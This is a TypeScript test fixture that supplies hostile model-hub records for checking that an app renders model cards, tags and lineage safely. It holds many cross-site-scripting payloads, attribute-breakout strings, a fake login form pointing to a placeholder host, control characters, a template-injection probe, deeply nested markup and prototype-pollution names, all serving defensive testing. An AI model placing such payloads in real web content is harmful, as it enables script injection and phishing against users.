/**
 * What a record of the Hub may hold when its author means harm. Whatever of it
 * were executed would open a dialog, ask another host or throw: each of which
 * fails the session that sees it.
 */

/** The model whose card and fields attack. */
export const ATTACKER = 'evil-corp/card';
/** Its parent: a model with a harmless record. */
export const VICTIM = 'acme/base';

const ELSEWHERE = 'http://elsewhere.invalid';

/** Pieces that run something where they are not made harmless. */
export const attacks = [
  `<script>alert("script")</script>`,
  `<script src="${ELSEWHERE}/x.js"></script>`,
  `<img src=x onerror="alert('onerror')">`,
  `<img src="${ELSEWHERE}/pixel.png">`,
  `<svg onload="alert('onload')"><script>alert("svg")</script></svg>`,
  `<svg><animate onbegin="alert('begin')" attributeName="x" dur="1s"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=alert('noscript')>"></noscript>`,
  `<iframe src="javascript:alert('iframe')"></iframe>`,
  `<iframe srcdoc="<script>parent.alert('srcdoc')</script>"></iframe>`,
  `<object data="javascript:alert('object')"></object><embed src="${ELSEWHERE}/x.swf">`,
  `<form action="${ELSEWHERE}/login"><input name=password autofocus onfocus="alert('focus')"><button>Sign in</button></form>`,
  `<style>body { display: none } @import "${ELSEWHERE}/x.css";</style>`,
  `<link rel="stylesheet" href="${ELSEWHERE}/x.css"><base href="${ELSEWHERE}/">`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/">`,
  `<div style="position:fixed;inset:0;background:url(${ELSEWHERE}/bg.png)" onmouseover="alert('over')">cover</div>`,
  `<a href="javascript:alert('link')">a link that runs</a>`,
  `<a href="JaVaScRiPt&colon;alert('colon')">another that runs</a>`,
  `<a href="data:text/html,<script>alert('data')</script>">a page in a link</a>`,
  `<a href="vbscript:msgbox(1)">an old one</a>`,
  `<a href="${ELSEWHERE}/page" target="_top" id="root">a plain link</a>`,
  `[markdown](javascript:alert('markdown'))`,
  `![picture](${ELSEWHERE}/markdown.png)`,
  `<video src="${ELSEWHERE}/x.mp4" autoplay onerror="alert('video')"></video>`,
  `<details open ontoggle="alert('toggle')"><summary>more</summary>less</details>`,
  `<button popovertarget=x>pop</button><div popover id=x onbeforetoggle="alert('pop')">x</div>`,
] as const;

const SPAN = `<img src=x onerror="alert('field')">`;
const BREAK = `"'><script>alert('attribute')</script>`;
const CONTROL = '\u001b[2J\u202egnp.exe\r\n\t\u0007\ufeff';

/** 1 MiB of tags, one within the other. */
const nested = '<div><b><i>'.repeat(95_326);

const base = (id: string, relation: string) => [`base_model:${id}`, `base_model:${relation}:${id}`];

/** Lines in the form of the Hub's API. */
export const hostileRecords: readonly Record<string, unknown>[] = [
  {
    id: VICTIM,
    downloads: 1000,
    likes: 10,
    tags: ['license:mit'],
    pipeline_tag: 'text-generation',
    library_name: 'transformers',
    createdAt: '2024-01-01T00:00:00.000Z',
    readme: '---\nlicense: mit\n---\n# Base\n\nA harmless card.',
  },
  {
    id: ATTACKER,
    downloads: 999,
    likes: 9,
    pipeline_tag: SPAN,
    library_name: BREAK,
    createdAt: '2024-02-01T00:00:00.000Z',
    cardData: {
      base_model: `${SPAN}/${BREAK}`,
      license: BREAK,
      license_name: SPAN,
      language: SPAN,
      datasets: ["javascript:alert('dataset')"],
    },
    tags: [SPAN, BREAK, CONTROL, `license:${BREAK}`, 'a{{7*7}}', ...base(VICTIM, 'finetune')],
    readme: `---\nlicense: "${SPAN}"\nx: "</script><script>alert('front matter')</script>"\n---\n# The attack\n\n${attacks.join('\n\n')}\n\nThe end.`,
  },
  {
    id: 'evil-corp/nested',
    downloads: 998,
    tags: base(VICTIM, 'merge'),
    createdAt: '2024-03-01T00:00:00.000Z',
    readme: `# Deep\n\n${nested}`,
  },
  {
    id: 'evil-corp/quotes',
    downloads: 997,
    tags: base(VICTIM, 'quantized'),
    createdAt: '2024-03-02T00:00:00.000Z',
    readme: `# Quotes\n\n${'>'.repeat(20_000)} deep\n\n${'- '.repeat(20_000)}\n\n${'['.repeat(20_000)}`,
  },
  {
    id: '-x/-y',
    pipeline_tag: CONTROL,
    tags: [CONTROL, ...base(ATTACKER, 'adapter'), ...base('gone/gone', 'adapter')],
    readme: CONTROL,
  },
  // A circle, and a model that names itself.
  { id: 'lab/one', tags: base('lab/two', 'finetune') },
  { id: 'lab/two', tags: base('lab/one', 'finetune') },
  { id: 'lab/self', tags: base('lab/self', 'finetune') },
  // Names that are special in addresses.
  { id: 'lab/..hidden', tags: base(VICTIM, 'finetune') },
  { id: 'a.b_c-d/0', tags: base(VICTIM, 'adapter') },
  { id: 'constructor/__proto__', tags: base(VICTIM, 'adapter') },
  { id: 'legacy', tags: base(VICTIM, 'finetune') },
  { id: `lab/${'long-'.repeat(60)}name`, tags: base(VICTIM, 'finetune') },
];
